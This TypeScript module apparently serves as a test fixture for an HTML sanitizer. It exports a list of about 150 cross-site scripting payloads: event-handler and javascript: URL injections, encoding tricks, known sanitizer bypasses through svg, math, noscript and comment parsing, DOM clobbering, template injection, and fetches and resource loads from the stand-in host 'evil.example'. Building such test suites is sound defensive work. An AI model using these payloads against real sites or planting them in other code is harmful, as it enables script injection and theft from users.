/** Sets a marker if it runs. */
const RUN = "globalThis.owned=1;alert(1);fetch('https://evil.example/x')"
const AWAY = 'https://evil.example/'

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus',
  'onmouseover',
  'ontoggle',
  'onanimationstart',
  'onbegin',
  'onpointerenter',
  'onscroll',
]
const carriers = [
  'img src=x',
  'svg',
  'video src=x',
  'audio src=x',
  'body',
  'details open',
  'input autofocus',
  'a href=#',
  'p tabindex=1 id=x',
  'table',
]
const addresses = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#106;avascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLm93bmVkPTE8L3NjcmlwdD4=`,
  `vbscript:${RUN}`,
]
/**
 * Known bypasses of sanitizers: other namespaces, tables, templates, comments, names that shadow those of the
 * page.
 */
const vectors = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}x.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `"><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set attributeName=href to="javascript:${RUN}"><a><text>x</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${RUN}'/></svg>#x"></use></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></mtext></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<textarea><img title="</textarea><img src=x onerror='${RUN}'>">`,
  `<style><img src="</style><img src=x onerror='${RUN}'>">`,
  `<xmp><img src="</xmp><img src=x onerror='${RUN}'>">`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<!--<img src="--><img src=x onerror='${RUN}'>">`,
  `<?xml version="1.0"?><img src=x onerror="${RUN}">`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<object data="${AWAY}x.swf"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="${AWAY}">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<link rel=stylesheet href="${AWAY}x.css">`,
  `<link rel=import href="${AWAY}x">`,
  `<style>@import '${AWAY}x.css';body{background:url(${AWAY}x.png)}</style>`,
  `<p style="background:url(${AWAY}x.png);animation:x">x</p>`,
  `<img src="${AWAY.replace('https:', '')}x.png">`,
  `<img srcset="${AWAY}x.png 1x">`,
  `<picture><source srcset="${AWAY}x.png"></picture>`,
  `<video poster="${AWAY}x.png"></video>`,
  `<audio src="${AWAY}x.mp3" autoplay></audio>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form id=x></form><button form=x formaction="javascript:${RUN}">x</button>`,
  `<isindex action="javascript:${RUN}" type=image>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<select onfocus="${RUN}" autofocus>`,
  `<img name=getElementById><img name=createElement><form name=body><input name=parentNode></form>`,
  `<a id=location href="javascript:${RUN}">x</a><a id=boot>x</a>`,
  `<img src="x\` onerror=${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x onerror\u0000="${RUN}">`,
  `<img \u000bsrc=x\u000bonerror="${RUN}">`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `＜img src=x onerror=${RUN}＞`,
  '{{constructor.constructor("globalThis.owned=1")()}}',
  '${globalThis.owned=1}',
  `<a href="//evil.example" target=_self>x</a>`,
  `<a href="\\\\evil.example">x</a>`,
]

/** Texts that an operator's page, a nickname or an upstream could contain. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...handlers.flatMap((handler, at) => {
    const [one = '', other = ''] = [carriers[at], carriers[(at + 3) % carriers.length]]
    return [
      `<${one} ${handler}="${RUN}">x`,
      `<${other} ${handler.toUpperCase()}='${RUN}'>x`,
      `<${one}/${handler}=${RUN}>`,
    ]
  }),
  ...addresses.flatMap((address) => [
    `<a href="${address}">x</a>`,
    `<img src="${address}">`,
    `<iframe src="${address}"></iframe>`,
    `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
    `<form action="${address}"><input type=submit></form>`,
    `<object data="${address}"></object>`,
  ]),
  ...vectors,
]
